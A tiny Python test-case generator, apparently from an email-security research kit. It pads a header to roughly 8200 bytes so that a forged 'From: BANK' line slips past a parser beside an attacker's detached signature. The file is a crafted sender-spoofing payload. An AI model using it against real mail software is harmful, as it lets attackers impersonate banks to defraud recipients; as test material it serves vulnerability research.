from kit import *


def make():
    pad = b"X-Pad: b\r\n ".ljust(10 + 8190, b"a")
    return letter(detached(hello(), mallory()), sender=MALLORY, before=[pad + f"From: {BANK}".encode()])
